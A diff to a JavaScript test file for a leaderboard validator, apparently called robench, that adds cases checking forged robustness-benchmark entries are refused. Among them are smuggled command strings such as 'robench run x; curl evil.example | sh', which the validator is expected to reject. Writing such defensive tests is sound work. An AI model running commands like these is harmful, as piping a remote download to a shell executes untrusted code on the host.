@@ -191,7 +191,7 @@ describe('a forged entry is refused:', () => {
     [
       'a defense that does not exist',
       ({ defense }) => ({ defense: { ...defense, plugin: 'magic' } }),
-      'unknown defense plugin "magic"',
+      '/defense: the suite evaluates no "honest" of the plugin magic',
     ],
     ['a plugin from the future', attackChange(1, { version: 99 }), '99 is newer than "autoattack"'],
     [
@@ -222,6 +222,102 @@ describe('a forged entry is refused:', () => {
       'a hidden character in a key',
       () => ({ training: { 'a\u2066b': 1 } }),
       'a key with the hidden character U+2066',
+    ],
+    ['a sample', suiteChange({ sample: { count: 100, seed: 0 } }), 'uses a sample of the examples'],
+    [
+      'pixels in another range, in which ε is smaller',
+      ({ threatModel }) => ({ threatModel: { ...threatModel, bounds: [0, 255] } }),
+      '/threatModel/bounds: the pixels of the suite are in [0, 1]',
+    ],
+    [
+      'a target, which is harder to reach than any wrong class',
+      ({ threatModel }) => ({ threatModel: { ...threatModel, target: 'random' } }),
+      '/run/suite/content: has no such threat model',
+    ],
+    [
+      'limits for each image that the suite does not have',
+      ({ threatModel }) => ({ threatModel: { ...threatModel, given: 'epsilons' } }),
+      '/run/suite/content: has no such threat model',
+    ],
+    [
+      'options that its suite does not state',
+      suiteChange({
+        attacks: [
+          { plugin: 'fgsm', name: 'fgsm' },
+          { plugin: 'autoattack', name: 'autoattack', options: { version: 'plus' } },
+        ],
+      }),
+      /the suite has no "autoattack" with these options|the content has [0-9a-f]{64}/,
+    ],
+    [
+      'a seed that its suite does not have',
+      attackChange(1, { seed: 9 }),
+      '/attacks/1/seed: the suite',
+    ],
+    [
+      'a name that its suite does not have',
+      attackChange(1, { name: 'autoattack (official)' }),
+      '/attacks/1/name: the suite has no "autoattack" of the name "autoattack (official)"',
+    ],
+    [
+      'another defense than that of its suite',
+      ({ defense }) => ({ defense: { ...defense, name: 'other' } }),
+      '/defense: the suite evaluates no "other"',
+    ],
+    [
+      'another title than that of its suite',
+      ({ run }) => ({ run: { ...run, suite: { ...run.suite, title: 'Official' } } }),
+      '/run/suite/title: the content has "Board", got "Official"',
+    ],
+    [
+      'a data set with the title of another one',
+      ({ dataset }) => ({ dataset: { ...dataset, title: 'ImageNet' } }),
+      '/dataset/title: "cifar10" is CIFAR-10, got ImageNet',
+    ],
+    ['a blank title', () => ({ title: '\u00A0 ' }), '/title: must not be blank'],
+    ['a title without end', () => ({ title: 'x'.repeat(201) }), 'must have at most 200 characters'],
+    ['marks above marks', () => ({ title: `a${'\u0301'.repeat(3)}` }), 'has three marks'],
+    [
+      'a letter of another alphabet',
+      () => ({ title: '\u0410utoAttack' }),
+      'letters of two alphabets',
+    ],
+    ['a crowd of authors', () => ({ authors: Array(201).fill('A') }), 'must be at most 200'],
+    ['a year to come', () => ({ year: 2150 }), '/year: must be at most '],
+    [
+      'a command with another one',
+      ({ run }) => ({ run: { ...run, command: 'robench run x; curl evil.example | sh' } }),
+      '/run/command: must be a call of robench',
+    ],
+    [
+      'another program as command',
+      ({ run }) => ({ run: { ...run, command: 'curl evil.example' } }),
+      '/run/command: must be a call of robench',
+    ],
+    [
+      'facts about a machine that robench does not record',
+      ({ run }) => ({ run: { ...run, environment: { ...run.environment, verified: 'yes' } } }),
+      '/run/environment: unknown key "verified"',
+    ],
+    [
+      'a package twice',
+      ({ run }) => ({ run: { ...run, packages: [...run.packages, ...run.packages] } }),
+      '/run/packages: a package is repeated',
+    ],
+    [
+      'a run before robench',
+      ({ run }) => ({ run: { ...run, finishedAt: '1970-01-01T00:00:00Z' } }),
+      '/run/finishedAt: robench is younger',
+    ],
+    [
+      'more parameters than the file can hold',
+      ({ model }) => ({ model: { ...model, parameters: 1e12 } }),
+      'parameters do not fit into',
+    ],
+    [
+      'a training card without end',
+      () => ({ training: { notes: 'x'.repeat(1_000_001) } }),
+      '/training: must have at most 1000000 characters',
     ],
     [
       'a third-party attack without its package',
